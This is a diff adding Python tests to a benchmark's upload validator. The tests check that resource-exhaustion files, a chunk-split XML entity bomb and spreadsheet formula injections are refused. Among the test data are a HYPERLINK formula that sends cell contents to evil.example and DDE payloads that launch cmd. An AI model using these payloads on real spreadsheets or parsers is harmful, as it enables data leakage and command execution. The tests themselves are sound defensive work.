@@ -8,6 +8,11 @@ from __future__ import annotations
 import codecs
 import datetime as dt
 import io
+import operator
+import os
+import pickle
+import resource
+import time
 import zipfile
 
 import openpyxl
@@ -18,12 +23,16 @@ from benchmark.definitions.standard import (
     MAX_CELL_CHARS,
     MAX_COLUMNS,
     MAX_FILE_BYTES,
+    MAX_PART_ELEMENTS,
+    MAX_READING_MEMORY,
     MAX_ROW_CELLS,
     MAX_ROWS,
+    MAX_SHARED_STRINGS,
+    MAX_SHEETS,
     MAX_UNZIPPED_BYTES,
     columns,
 )
-from benchmark.intake import reading, validation
+from benchmark.intake import containment, reading, validation
 from benchmark.intake.reading import Deadline
 from benchmark.intake.returns import store_file
 from benchmark.intake.validation import MAX_REPORTED, validate
@@ -436,3 +445,189 @@ def test_a_hostile_file_stores_nothing(name, tmp_db, today):
 
 def test_the_dates_used_here_are_still_in_range(today):
     assert today >= dt.date(2025, 7, 1)  # 2025-26 Q1 rows above must not be "in the future"
+
+
+# --- issue 17 item 5: uploads that cannot hurt the server ---------------------------------------
+# Each hostile file of the issue's "Why", scaled down where the limit is reached long before the
+# original size; every one must be refused with its reason within the time target.
+
+HOSTILE_SECONDS = 5.0
+_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+
+
+def replaced_part(content: bytes, part: str, data: bytes) -> bytes:
+    """The workbook with one part's XML replaced (added if missing)."""
+    source = zipfile.ZipFile(io.BytesIO(content))
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as hostile:
+        for item in source.infolist():
+            if item.filename != part:
+                hostile.writestr(item.filename, source.read(item))
+        hostile.writestr(part, data)
+    return buffer.getvalue()
+
+
+def timed_refusal(name: str, content: bytes, today) -> str:
+    start = time.monotonic()
+    message = refusal(validate(name, content, today=today))
+    assert time.monotonic() - start < HOSTILE_SECONDS, message
+    return message
+
+
+def valid_book() -> bytes:
+    return workbook(("Return", [ADVICE, ["Camden", "2025-26 Q1", None, *ADVICE_FIGURES]]))
+
+
+@pytest.mark.parametrize("part", ["xl/styles.xml", "xl/workbook.xml"])
+def test_a_part_that_is_a_long_run_of_empty_elements_is_refused_while_parsed(part, today):
+    # The issue's 63 KB workbook: millions of empty elements cost 12 s and 1.5 GB as a tree.
+    run = f'<styleSheet {_NS}>'.encode() + b"<x/>" * 3_000_000 + b"</styleSheet>"
+    content = replaced_part(valid_book(), part, run)
+    assert len(content) < 100_000
+    message = timed_refusal("empty-elements.xlsx", content, today)
+    assert f"holds more than {MAX_PART_ELEMENTS.value:,} XML elements" in message
+
+
+def test_one_row_of_millions_of_cells_is_refused_at_the_cell_beyond_excels_columns(today):
+    cells = b"<c/>" * (MAX_ROW_CELLS.value + 100)
+    sheet = f'<worksheet {_NS}><sheetData><row r="1">'.encode() + cells + b"</row></sheetData></worksheet>"
+    message = timed_refusal("wide-row.xlsx", replaced_part(valid_book(), "xl/worksheets/sheet1.xml", sheet), today)
+    assert f"Sheet 'Return': row 1 has more than {MAX_ROW_CELLS.value:,} cells" in message
+
+
+def test_two_hundred_thousand_sheets_are_refused_at_the_sheet_beyond_the_limit(today):
+    sheets = b"".join(f'<sheet name="S{n}" sheetId="{n}"/>'.encode() for n in range(200_000))
+    book = f'<workbook {_NS}><sheets>'.encode() + sheets + b"</sheets></workbook>"
+    message = timed_refusal("sheets.xlsx", replaced_part(valid_book(), "xl/workbook.xml", book), today)
+    assert message.startswith(f"The workbook has more than {MAX_SHEETS.value:,} sheets")
+
+
+def test_a_table_of_too_many_shared_strings_is_refused_while_read(today):
+    strings = b"".join(f"<si><t>{n}</t></si>".encode() for n in range(MAX_SHARED_STRINGS.value + 10))
+    table = f'<sst {_NS}>'.encode() + strings + b"</sst>"
+    sheet = f'<worksheet {_NS}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'
+    content = replaced_part(valid_book(), "xl/worksheets/sheet1.xml", sheet.encode())
+    message = timed_refusal("strings.xlsx", replaced_part(content, "xl/sharedStrings.xml", table), today)
+    assert f"more than {MAX_SHARED_STRINGS.value:,} different texts" in message
+
+
+def test_megabytes_of_commas_get_the_true_reason(today):
+    message = timed_refusal("commas.csv", b"," * 2_000_000, today)
+    assert message.startswith("The file holds only separators") and "empty" not in message
+
+
+def test_a_line_of_a_million_separators_is_refused_before_it_becomes_a_row(today):
+    message = timed_refusal("commas.csv", advice_csv(ADVICE_ROW, "x" + "," * 1_000_000 + "y"), today)
+    assert f"Line 3 has 1,000,001 cells: a return may have at most {MAX_ROW_CELLS.value:,} cells" in message
+
+
+def naive_chunk_scan(xml: bytes, chunk: int = 1 << 16) -> bool:
+    """The entity guard the issue beat: looks for the declarations in each 64 KiB chunk on its own."""
+    return any(b"<!DOCTYPE" in xml[at:at + chunk] or b"<!ENTITY" in xml[at:at + chunk]
+               for at in range(0, len(xml), chunk))
+
+
+def test_a_doctype_split_across_chunks_is_refused_and_nothing_expanded(tmp_db, today):
+    sheet = zipfile.ZipFile(io.BytesIO(valid_book())).read("xl/worksheets/sheet1.xml")
+    declaration = sheet.index(b"?>") + 2 if sheet.startswith(b"<?xml") else 0
+    # "<!DOC" ends one 64 KiB chunk and "TYPE" starts the next; "<!ENT" and "ITY" likewise a chunk later.
+    opening = sheet[:declaration] + b"<!--" + b" " * ((1 << 16) - declaration - len("<!---->") - 5) + b"-->"
+    doctype = opening + b"<!DOCTYPE worksheet [<!--"
+    doctype += b" " * ((2 << 16) - len(doctype) - len("--><!ENT")) + b"-->"
+    hostile = doctype + b'<!ENTITY boom "' + b"B" * 1000 + b'">]>' + sheet[declaration:].replace(
+        b"<v>48</v>", b"<v>&boom;</v>")
+    for declared, boundary in ((b"<!DOCTYPE", 1 << 16), (b"<!ENTITY", 2 << 16)):
+        assert hostile.index(declared) < boundary < hostile.index(declared) + len(declared)
+    assert not naive_chunk_scan(hostile)  # the control: the old guard lets this file through
+    content = replaced_part(valid_book(), "xl/worksheets/sheet1.xml", hostile)
+    message = timed_refusal("split.xlsx", content, today)
+    assert "declares a document type or XML entities" in message
+    result = store_file(tmp_db, "split.xlsx", content, "uploader@example.org", today=today)
+    assert result.status == "refused" and tmp_db.scalar("SELECT count(*) FROM submissions") == 0
+
+
+def test_an_800_mb_csv_on_the_command_line_is_refused_before_it_is_read(benchmark_cli, tmp_path):
+    huge = tmp_path / "huge.csv"
+    with huge.open("wb") as file:  # sparse: 800 MB long, no disk used
+        file.truncate(800 * 1024 * 1024)
+    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
+    start = time.monotonic()
+    process = benchmark_cli("validate", str(huge), db=tmp_path / "x.duckdb")
+    assert time.monotonic() - start < 30  # the command's own start-up; reading 800 MB is what must not happen
+    assert process.returncode == 2 and "Traceback" not in process.stderr
+    assert f"huge.csv is {800 * 1024 * 1024:,} bytes" in process.stderr and "nothing was read" in process.stderr
+    peak_kb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
+    assert peak_kb < 500 * 1024 or peak_kb == before  # the command never held the file
+
+
+def test_a_reading_that_outlives_its_time_is_killed_and_the_next_one_works(today):
+    start = time.monotonic()
+    with pytest.raises(containment.ContainedFailure) as failure:
+        containment.run(time.sleep, 30, seconds=0.5, memory_bytes=MAX_READING_MEMORY.value)
+    assert failure.value.kind == "time" and time.monotonic() - start < HOSTILE_SECONDS
+    assert validate("ok.csv", advice_csv(ADVICE_ROW), today=today).ok
+
+
+def test_a_reading_that_wants_too_much_memory_is_stopped_not_the_server(today):
+    with pytest.raises(containment.ContainedFailure) as failure:
+        containment.run(bytearray, MAX_READING_MEMORY.value, seconds=HOSTILE_SECONDS,
+                        memory_bytes=MAX_READING_MEMORY.value)
+    assert failure.value.kind == "memory"
+    assert validate("ok.csv", advice_csv(ADVICE_ROW), today=today).ok
+
+
+def test_a_reading_process_that_dies_is_a_reason(today, monkeypatch):
+    with pytest.raises(containment.ContainedFailure) as failure:
+        containment.run(os._exit, 1, seconds=HOSTILE_SECONDS, memory_bytes=MAX_READING_MEMORY.value)
+    assert failure.value.kind == "crashed"
+    assert validate("ok.csv", advice_csv(ADVICE_ROW), today=today).ok
+
+
+def test_a_reply_may_not_carry_anything_but_data(today):
+    with pytest.raises(pickle.UnpicklingError, match="may not hold"):
+        containment.run(operator.attrgetter, "x", seconds=HOSTILE_SECONDS, memory_bytes=MAX_READING_MEMORY.value)
+
+
+# --- issue 17 item 6: a formula in any cell is refused --------------------------------------------
+
+
+def test_a_hyperlink_formula_in_a_csv_notes_cell_is_refused_with_its_place(today):
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click for the figures")'
+    content = advice_csv(f'Camden,2025-26 Q1,"{formula.replace(chr(34), chr(34) * 2)}",48,45,37,3,9,4,15,11,40,21,14')
+    report = validate("notes.csv", content, today=today)
+    assert [(p.row, p.column, p.value) for p in report.errors] == [(2, "notes", formula)]
+    assert "is a formula" in report.errors[0].message and not report.rows
+
+
+@pytest.mark.parametrize(("written", "column"), [("@SUM(1+1)*cmd|' /C calc'!A0", "notes"),
+                                                 ("+HYPERLINK(1)", "notes"), ("-2+3+cmd|' /C calc'!A0", "notes"),
+                                                 ("=1+1", "column 15")])
+def test_every_formula_start_in_any_column_is_refused(written, column, today):
+    header = ",".join([*ADVICE, "extra"]) if column == "column 15" else ",".join(ADVICE)
+    row = ADVICE_ROW + f",{written}" if column == "column 15" else ADVICE_ROW.replace(",,", f',"{written}",', 1)
+    report = validate("formula.csv", advice_csv(row, header=header), today=today)
+    assert (2, column, written) in [(p.row, p.column, p.value) for p in report.errors]
+
+
+@pytest.mark.parametrize("written", ["-", "+72", "- 0"])
+def test_numbers_and_a_lone_dash_are_not_formulas(written):
+    assert not validation.is_formula(written)
+
+
+def test_a_formula_with_its_saved_value_in_a_workbook_is_refused(today):
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.title = "Return"
+    sheet.append(ADVICE)
+    sheet.append(["Camden", "2025-26 Q1", '=HYPERLINK("http://evil.example","x")', *ADVICE_FIGURES])
+    buffer = io.BytesIO()
+    book.save(buffer)
+    # openpyxl saves no value for a formula; Excel saves both: put the value in, as Excel would.
+    content = replaced_part(buffer.getvalue(), "xl/worksheets/sheet1.xml", zipfile.ZipFile(buffer).read(
+        "xl/worksheets/sheet1.xml").replace(b"</f><v></v>", b"</f><v>x</v>").replace(b"</f><v/>", b"</f><v>x</v>"))
+    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
+    assert b"<f>" in sheet_xml and b"<v>x</v>" in sheet_xml
+    report = validate("formula.xlsx", content, today=today)
+    assert [(p.sheet, p.row, p.column, p.value) for p in report.errors] == [
+        ("Return", 2, "notes", '=HYPERLINK("http://evil.example","x")')]
+    assert "is a formula, and a return holds values only" in report.errors[0].message
